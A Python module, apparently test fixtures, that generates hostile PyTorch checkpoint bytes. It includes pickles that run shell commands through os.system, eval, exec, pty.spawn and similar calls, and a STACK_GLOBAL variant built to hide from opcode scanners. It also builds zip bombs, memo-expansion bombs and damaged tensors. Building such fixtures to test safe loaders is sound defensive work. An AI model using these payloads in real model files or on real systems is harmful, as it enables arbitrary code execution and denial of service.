"""Checkpoints made to harm, as bytes: they run a command, take all memory or time, or hold damaged values.

`HOSTILE[name](command)` gives the file; `command` is what it would have a shell do.
"""

import functools
import io
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections import OrderedDict

import numpy as np
import torch

WEIGHT = "_conv_stem.weight"


class _Calls:
    """Pickles as a call of `function` with `arguments`."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


def _saved(state, **options):
    stream = io.BytesIO()
    torch.save(state, stream, **options)
    return stream.getvalue()


def _global(module, name, argument, *, protocol=2):
    """A pickle that calls module.name(argument) without either being imported here."""
    head = bytes([0x80, protocol]) if protocol >= 2 else b""
    return (
        head + f"c{module}\n{name}\n".encode() + b"(X" + struct.pack("<I", len(argument)) + argument.encode() + b"tR."
    )


def _zipped(content, name="archive/data.pkl", *, compression=zipfile.ZIP_STORED, **others):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", compression) as archive:
        archive.writestr(name, content)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
        for other, more in others.items():
            archive.writestr(f"archive/{other}", more)
    return stream.getvalue()


def _stack_global(command):
    """`posix.system` put together from strings that the memo holds: no GLOBAL opcode names it."""

    def text(word):
        return b"\x8c" + bytes([len(word)]) + word.encode()

    return (
        b"\x80\x04"
        + text("system")
        + b"\x94"
        + text("posix")
        + b"\x94"
        + b"00"
        + b"h\x01"
        + b"h\x00"
        + b"\x93"
        + text(command[:250])
        + b"\x85R."
    )


def _extension(command):
    """EXT1: a number that `copyreg` turns into a function, if somebody registered it."""
    return b"\x80\x02" + b"\x82\x01" + b"X" + struct.pack("<I", len(command)) + command.encode() + b"\x85R."


def _laughs():
    """Ten lists of ten, thirty deep, by the memo: 10^30 items for whoever walks them."""
    body = b"\x80\x02]q\x00"
    for level in range(1, 31):
        body += b"]q" + bytes([level]) + b"(" + (b"h" + bytes([level - 1])) * 10 + b"e"
    return body + b"."


def _tensor(size, stride, numbers=1):
    """A file of torch whose one tensor has another size than its storage."""

    class Storage(pickle.Pickler):
        def persistent_id(self, value):
            return ("storage", torch.FloatStorage, "0", "cpu", numbers) if value == "values" else None

    stream = io.BytesIO()
    Storage(stream, 2).dump(
        {WEIGHT: _Calls(torch._utils._rebuild_tensor_v2, "values", 0, size, stride, False, OrderedDict())}
    )
    return _zipped(stream.getvalue(), **{"data/0": bytes(4 * numbers)})


def _aliases():
    values = torch.zeros(1 << 18)
    return _saved({f"name{number}": values for number in range(20_000)})


def _overlapping():
    """A zip whose many entries are all the same bytes."""
    raw = bytearray(_zipped(b"\x80\x02}." + b"\0" * 100_000))
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as archive:
        entry = archive.infolist()[0]
        start = archive.start_dir
    one = raw[start : start + 46 + len(entry.filename)]
    names = [
        one[:46] + f"archive/{number:04d}.pkl".encode()[: len(entry.filename)].ljust(len(entry.filename), b"x")
        for number in range(500)
    ]
    directory = one + b"".join(names)
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 501, 501, len(directory), start, 0)
    return bytes(raw[:start]) + directory + end


def _tar():
    """What torch wrote before 0.1.10."""
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, content in (("sys_info", b"."), ("pickle", _global("posix", "system", "touch x")), ("storages", b"")):
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return stream.getvalue()


def _old_format(content):
    """Torch before 1.6: a magic number, a version and the machine, then the pickle."""
    head = b"".join(pickle.dumps(one, 2) for one in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
    return head + content + pickle.dumps([], 2)


def _quietly(make):
    """Torch advises against what it is asked for here."""

    @functools.wraps(make)
    def made(*given):
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            return make(*given)

    return made


@_quietly
def _script():
    stream = io.BytesIO()
    torch.jit.save(torch.jit.trace(torch.nn.Linear(2, 2), torch.zeros(1, 2)), stream)
    return stream.getvalue()


def _bomb():
    return _zipped(b"\x80\x02}." + bytes(300 << 20), compression=zipfile.ZIP_DEFLATED)


@_quietly
def _quantized():
    return _saved({WEIGHT: torch.quantize_per_tensor(torch.ones(4), 0.1, 0, torch.qint8)})


@_quietly
def _sparse():
    indices, values = torch.tensor([[0, 1], [0, 1]]), torch.ones(2)
    return _saved({WEIGHT: torch.sparse_coo_tensor(indices, values, (1 << 20, 1 << 20))})


def _half(bits):
    values = np.zeros(64, dtype=np.uint16)
    values[7] = bits
    return torch.from_numpy(values.view(np.int16)).view(torch.bfloat16)


HOSTILE = {
    # code
    "posix.system by reduce": lambda command: pickle.dumps(_Calls(__import__("os").system, command)),
    "builtins.eval": lambda command: _global("builtins", "eval", f"__import__('os').system({command!r})"),
    "builtins.exec": lambda command: _global("builtins", "exec", f"import os; os.system({command!r})"),
    "__builtin__.eval of protocol 0": lambda command: _global(
        "__builtin__", "eval", f"__import__('os').system({command!r})", protocol=0
    ),
    "subprocess.getoutput": lambda command: _global("subprocess", "getoutput", command),
    "importlib.import_module": lambda command: _global("importlib", "import_module", "antigravity"),
    "pip.main": lambda command: _global("pip", "main", "install"),
    "numpy.load": lambda command: _global("numpy", "load", "data.npy"),
    "runpy._run_code": lambda command: _global("runpy", "_run_code", f"import os; os.system({command!r})"),
    "pty.spawn": lambda command: _global("pty", "spawn", command),
    "torch.hub.load": lambda command: _global("torch.hub", "load", command),
    "torch.load": lambda command: _global("torch.serialization", "load", "other.bin"),
    "a dotted name": lambda command: _global("torch._utils", "os.system", command),
    "STACK_GLOBAL out of the memo": _stack_global,
    "an extension's number": _extension,
    "INST of protocol 0": lambda command: f"(S{command!r}\niposix\nsystem\n.".encode(),
    "torch zip, code in data.pkl": lambda command: _zipped(_global("posix", "system", command)),
    "torch zip, a second pickle": lambda command: _zipped(
        b"\x80\x02}.", **{"extra.pkl": _global("posix", "system", command)}
    ),
    "torch zip within a zip": lambda command: _zipped(_zipped(_global("posix", "system", command)), "archive/data.pkl"),
    "torch old format, code": lambda command: _old_format(_global("posix", "system", command)),
    "code after good weights": lambda command: _saved({WEIGHT: torch.ones(4), "more": _Calls(eval, "1")}),
    "the tar of 2016": lambda command: _tar(),
    "a TorchScript archive": lambda command: _script(),
    # memory and time
    "stride 0, 2^33 values": lambda command: _tensor((2**33,), (0,)),
    "more values than the storage": lambda command: _tensor((1000, 1000), (1000, 1)),
    "negative sizes": lambda command: _tensor((-4, 4), (4, 1)),
    "a storage of 2^40 values": lambda command: (
        _tensor((4,), (1,), numbers=1)[:0] + _zipped(_saved_storage(2**40), **{"data/0": b"\0" * 16})
    ),
    "lists in lists by the memo": lambda command: _laughs(),
    "a million lists in one another": lambda command: b"\x80\x02" + b"]" * 1_000_000 + b"a" * 999_999 + b".",
    "a text of 2^60 bytes": lambda command: b"\x80\x04\x8d" + struct.pack("<Q", 2**60) + b"x.",
    "a number of 2^31 bytes": lambda command: b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b"x.",
    "a memo of 2^31 entries": lambda command: b"\x80\x02}r" + struct.pack("<I", 2**31 - 1) + b".",
    "a zip bomb": lambda command: _bomb(),
    "a zip of overlapping entries": lambda command: _overlapping(),
    "20,000 names of one storage": lambda command: _aliases(),
    # damage
    "cut in the middle": lambda command: _saved({WEIGHT: torch.ones(1000)})[:2500],
    "NaN": lambda command: _saved({WEIGHT: torch.tensor([1.0, float("nan")])}),
    "infinity in bfloat16": lambda command: _saved({WEIGHT: _half(0x7F80)}),
    "a sparse tensor": lambda command: _sparse(),
    "a quantized tensor": lambda command: _quantized(),
    "complex numbers": lambda command: _saved({WEIGHT: torch.ones(4, dtype=torch.complex64)}),
    "a tensor on no device": lambda command: _saved({WEIGHT: torch.ones(4, device="meta")}),
    "a list of tensors": lambda command: _saved([torch.ones(4)]),
    "numbers for names": lambda command: _saved({1: torch.ones(4)}),
    "nothing": lambda command: b"",
    "compressed noise": lambda command: zlib.compress(np.random.default_rng(0).bytes(4096)),
}


def _saved_storage(numbers):
    """data.pkl of a tensor whose storage says that it has so many numbers."""

    class Storage(pickle.Pickler):
        def persistent_id(self, value):
            return ("storage", torch.FloatStorage, "0", "cpu", numbers) if value == "values" else None

    stream = io.BytesIO()
    Storage(stream, 2).dump(
        {WEIGHT: _Calls(torch._utils._rebuild_tensor_v2, "values", 0, (4,), (1,), False, OrderedDict())}
    )
    return stream.getvalue()
